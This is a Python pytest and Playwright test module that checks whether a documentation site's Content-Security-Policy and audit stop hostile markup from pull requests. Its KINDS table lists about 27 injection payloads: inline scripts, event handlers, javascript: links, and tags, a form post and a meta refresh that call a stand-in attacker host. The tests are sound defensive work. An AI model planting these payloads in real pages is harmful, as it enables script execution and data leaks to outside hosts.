"""The browser enforces "no third party" (issue #18): hostile pull-request changes opened in a real
Chromium, every request intercepted (none leaves the machine: off-origin ones are recorded, then
aborted) and every dialog recorded.

- The changes of tests/hostile_prs.py whose answer is a safe build are built and opened: no request
  leaves the site's origin, no dialog opens.
- The policy as the second line's fallback: each kind of hostile markup the audit refuses is put
  into a page of the real built site (as if the audit had missed it) and opened twice, with the
  site's Content-Security-Policy and with Chromium told to ignore it (``bypass_csp``). Without the
  policy the browser fetches from the other host or opens a dialog (so each case can fail); with
  it, nothing. The violated directive of each kind is reported in artifacts/csp-hostile.json.
- A meta refresh navigates whatever the policy says: the one kind the audit alone must refuse.
"""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Error as PlaywrightError, Page

from ..conftest import copy_project, mkdocs_build
from ..hostile_prs import EVIL, Change, by_answer
from .conftest import SITE_PATH, write_report
from .server import SiteServer

pytestmark = pytest.mark.browser

RECORD_VIOLATIONS = """document.addEventListener("securitypolicyviolation", event => {
  (window.__violations = window.__violations || []).push(event.effectiveDirective + " " + event.blockedURI)
}, true)"""


@dataclass
class Opened:
    foreign: list[str] = field(default_factory=list)  # requests off the site's origin (aborted)
    dialogs: list[str] = field(default_factory=list)
    violations: list[str] = field(default_factory=list)
    final_url: str = ""


# Tabs open side by side per policy. A visit ends only after half a second without a request
# (networkidle), so one tab spent most of its time waiting: 66 visits one after the other took
# 97 s of a worker (issue #21). Side by side, the tabs wait together.
TABS = 8


@dataclass
class Tab:
    """A tab kept for the module, recording into its current visit. A fresh context per visit
    started a renderer each time: four times the CPU of a page sent to the next address in the
    same tab (issue #21). Each visit starts from a blank page, so whatever the previous page still
    had going is stopped before the recording starts; a visit that fails (a timeout) leaves a new
    tab behind, so the next test does not inherit it."""
    context: BrowserContext
    page: Page = field(init=False)
    origin: str = ""
    opened: Opened = field(default_factory=Opened)

    def __post_init__(self) -> None:
        self.open()

    def open(self) -> None:
        # routed per tab (not per context) so each request is recorded by the tab that made it
        self.page = self.context.new_page()
        self.page.route(lambda url: urlsplit(url).netloc != self.origin and urlsplit(url).scheme in ("http", "https", "ws", "wss"),
                        lambda route: (self.opened.foreign.append(route.request.url), route.abort()))
        self.page.on("dialog", lambda dialog: (self.opened.dialogs.append(dialog.message), dialog.dismiss()))

    def renew(self) -> None:
        try:
            self.page.close()
        finally:
            self.open()


@pytest.fixture(scope="module")
def policy_tabs(browser: Browser) -> Iterator[dict[bool, list[Tab]]]:
    """:data:`TABS` tabs by ``bypass_csp``: the site's policy applied, or ignored."""
    contexts = {bypass: browser.new_context(bypass_csp=bypass) for bypass in (False, True)}
    for context in contexts.values():
        context.add_init_script(RECORD_VIOLATIONS)
    yield {bypass: [Tab(context) for _ in range(TABS)] for bypass, context in contexts.items()}
    for context in contexts.values():
        context.close()


Target = tuple[SiteServer, str, str]  # a server, a path on it, a selector to click or ""


def visit(tabs: list[Tab], targets: list[Target]) -> list[Opened]:
    """Open each target, click its selector if given, let the page settle; what left the origin,
    what opened, in the targets' order. Up to ``len(tabs)`` at a time, side by side."""
    opened: list[Opened] = []
    for start in range(0, len(targets), len(tabs)):
        batch = list(zip(tabs, targets[start:start + len(tabs)]))
        try:
            opened += _visit(batch)
        except BaseException:
            for tab, _ in batch:
                tab.renew()
            raise
    return opened


def _visit(batch: list[tuple[Tab, Target]]) -> list[Opened]:
    for tab, (server, _, _) in batch:
        tab.page.goto("about:blank")
        tab.origin, tab.opened = urlsplit(server.origin).netloc, Opened()
    for tab, (server, path, _) in batch:  # each tab loads while the next is sent
        tab.page.goto(server.url(path), wait_until="commit")
    for tab, _ in batch:
        tab.page.wait_for_load_state("load")
    for tab, _ in batch:
        tab.page.wait_for_load_state("networkidle")
    acting = [(tab, act) for tab, (_, _, act) in batch if act]
    for tab, act in acting:
        tab.page.locator(act).first.click(timeout=5000, no_wait_after=True)
    if acting:
        acting[0][0].page.wait_for_timeout(500)
    for tab, _ in acting:
        tab.page.wait_for_load_state("networkidle")
    for tab, _ in batch:
        tab.opened.final_url = tab.page.url
        try:
            tab.opened.violations = tab.page.evaluate("window.__violations || []")
        except PlaywrightError:  # the page navigated away
            pass
    return [tab.opened for tab, _ in batch]


# --------------------------------------------------------------------------- safe builds

SAFE = by_answer("safe")


@pytest.fixture(scope="module")
def safe_sites(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, SiteServer]]:
    """Each safe change's name → a server of the site built with it (page changes share a build)."""
    groups: list[list[Change]] = [[c for c in SAFE if not c.alone]] + [[c] for c in SAFE if c.alone]
    servers: dict[str, SiteServer] = {}
    running: list[SiteServer] = []
    for number, group in enumerate(groups):
        folder = tmp_path_factory.mktemp(f"safe{number}")
        project = copy_project(folder / "project")
        for change in group:
            change.apply(project)
        result = mkdocs_build(project, folder / "site")
        assert result.returncode == 0, f"{[c.name for c in group]}: {result.stderr[-3000:]}"
        server = SiteServer(folder / "site", SITE_PATH).__enter__()
        running.append(server)
        servers.update({change.name: server for change in group})
    yield servers
    for server in running:
        server.__exit__(None, None, None)


@pytest.fixture(scope="module")
def safe_visits(policy_tabs: dict[bool, list[Tab]], safe_sites: dict[str, SiteServer]) -> dict[str, list[Opened]]:
    """Each safe change's name → its visits (its page, and the English home page if it names none)."""
    targets = [(change.name, (safe_sites[change.name], path, change.act)) for change in SAFE
               for path in dict.fromkeys([change.visit, "en/" if not change.visit else change.visit])]
    opened = visit(policy_tabs[False], [target for _, target in targets])
    visits: dict[str, list[Opened]] = {}
    for (name, _), one in zip(targets, opened):
        visits.setdefault(name, []).append(one)
    return visits


@pytest.mark.parametrize("change", SAFE, ids=lambda c: f"{c.area}-{c.name}")
def test_a_safe_change_builds_and_the_browser_stays_on_the_site(safe_visits: dict[str, list[Opened]], change: Change) -> None:
    for opened in safe_visits[change.name]:
        assert opened.foreign == [], f"{change.name}: requests to other hosts {opened.foreign}"
        assert opened.dialogs == [], f"{change.name}: dialogs {opened.dialogs}"


def test_the_search_share_feature_adds_no_script_url(safe_sites: dict[str, SiteServer]) -> None:
    import urllib.request
    html = urllib.request.urlopen(safe_sites["share"].url("")).read().decode("utf-8")  # noqa: S310 - our server
    assert "search-share" not in html and "javascript:" not in html


# --------------------------------------------------------------------------- the policy, kind by kind

# name → (markup put at the start of the article, a selector to click or "")
KINDS: dict[str, tuple[str, str]] = {
    "inline script": ("<script>alert('inline')</script>", ""),
    "event handler": ("<img src='nothing.png' alt='x' onerror=\"alert('handler')\">", ""),
    "iframe srcdoc script": ("<iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>", ""),
    "javascript: link": ("<a id='hostile' href=\"javascript:alert('link')\">x</a>", "#hostile"),
    "svg script": ("<svg><script>alert('svg')</script></svg>", ""),
    "script from another host": (f"<script src='https://{EVIL}/x.js'></script>", ""),
    "img": (f"<img src='https://{EVIL}/img.png' alt='x'>", ""),
    "srcset": (f"<img src='a.png' srcset='https://{EVIL}/srcset.png 1x' alt='x'>", ""),
    "css url() attribute": (f"<p style='background:url(https://{EVIL}/style.png)'>x</p>", ""),
    "css @import": (f"<style>@import 'https://{EVIL}/import.css';</style>", ""),
    "style sheet": (f"<link rel='stylesheet' href='https://{EVIL}/sheet.css'>", ""),
    "font": (f"<style>@font-face{{font-family:h;src:url(https://{EVIL}/f.woff2)}} p{{font-family:h}}</style>", ""),
    "tbody background": (f"<table><tbody background='https://{EVIL}/tbody.png'><tr><td>x</td></tr></tbody></table>", ""),
    "shadow root td background": (f"<div><template shadowrootmode='open'><td background='https://{EVIL}/shadow.png'>x</td></template></div>", ""),
    "iframe": (f"<iframe src='https://{EVIL}/frame'></iframe>", ""),
    "object": (f"<object data='https://{EVIL}/object' type='text/html'></object>", ""),
    "embed": (f"<embed src='https://{EVIL}/embed.svg' type='image/svg+xml'>", ""),
    "video poster": (f"<video poster='https://{EVIL}/poster.png'></video>", ""),
    "audio": (f"<audio src='https://{EVIL}/a.mp3' preload='auto'></audio>", ""),
    "svg image": (f"<svg><image href='https://{EVIL}/svg.png' width='9' height='9'/></svg>", ""),
    "prefetch": (f"<link rel='prefetch' href='https://{EVIL}/prefetch'>", ""),
    "base": (f"<base href='https://{EVIL}/'><img src='based.png' alt='x'>", ""),
    "ping": (f"<a id='hostile' href='#x' ping='https://{EVIL}/ping'>x</a>", "#hostile"),
    "form post": (f"<form action='https://{EVIL}/collect' method='post'><button id='hostile'>x</button></form>", "#hostile"),
    # markup the theme's own script turns into requests
    "mermaid": ("<pre class='mermaid'>graph TD; A-->B</pre>", ""),
    "alternate link": (f"<link rel='alternate' href='https://{EVIL}/feed/'>", ""),
    "source component": (f"<a class='md-source' data-md-component='source' href='https://github.com/{EVIL}/x'>"
                         "<div class='md-source__icon'></div><div class='md-source__repository'>r</div></a>", ""),
}


@pytest.fixture(scope="module")
def spliced(built_site: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[SiteServer]:
    """The real site, plus a page per kind: a real page of the build with the markup in its article."""
    site = tmp_path_factory.mktemp("spliced") / "site"
    shutil.copytree(built_site, site)
    template = (site / "hoja-de-ruta" / "index.html").read_text(encoding="utf-8")
    article = '<article class="md-content__inner md-typeset">'
    assert template.count(article) == 1
    for number, (markup, _) in enumerate(KINDS.values()):
        page = site / "hoja-de-ruta" / f"hostil-{number}" / "index.html"
        page.parent.mkdir()
        page.write_text(template.replace("../", "../../").replace(article, article + markup), encoding="utf-8")
    refresh = template.replace("../", "../../").replace(article, article + f"<meta http-equiv='refresh' content='0; url=https://{EVIL}/r'>")
    (site / "hoja-de-ruta" / "hostil-refresh").mkdir()
    (site / "hoja-de-ruta" / "hostil-refresh" / "index.html").write_text(refresh, encoding="utf-8")
    with SiteServer(site, SITE_PATH) as server:
        yield server


REPORT: dict[str, dict[str, list[str]]] = {}


@pytest.fixture(scope="module")
def policy_visits(policy_tabs: dict[bool, list[Tab]], spliced: SiteServer) -> dict[str, tuple[Opened, Opened]]:
    """Each kind → its page opened without the policy, then with it."""
    targets = [(spliced, f"hoja-de-ruta/hostil-{number}/", act) for number, (_, act) in enumerate(KINDS.values())]
    return dict(zip(KINDS, zip(visit(policy_tabs[True], targets), visit(policy_tabs[False], targets))))


@pytest.mark.parametrize("kind", KINDS)
def test_the_policy_blocks_each_kind_the_audit_refuses(policy_visits: dict[str, tuple[Opened, Opened]], kind: str) -> None:
    unprotected, protected = policy_visits[kind]
    assert unprotected.foreign or unprotected.dialogs, f"{kind}: without the policy nothing happened: the case cannot fail"
    REPORT[kind] = {"without the policy": unprotected.foreign + [f"dialog: {d}" for d in unprotected.dialogs],
                    "blocked by": sorted(set(protected.violations))}
    write_report("csp-hostile.json", REPORT)
    assert protected.foreign == [], f"{kind}: requests to other hosts under the policy {protected.foreign}"
    assert protected.dialogs == [], f"{kind}: dialogs under the policy {protected.dialogs}"


def test_a_meta_refresh_navigates_whatever_the_policy_so_the_audit_refuses_it(policy_tabs: dict[bool, list[Tab]], spliced: SiteServer) -> None:
    [opened] = visit(policy_tabs[False], [(spliced, "hoja-de-ruta/hostil-refresh/", "")])
    assert any(url.startswith(f"https://{EVIL}/r") for url in opened.foreign), opened
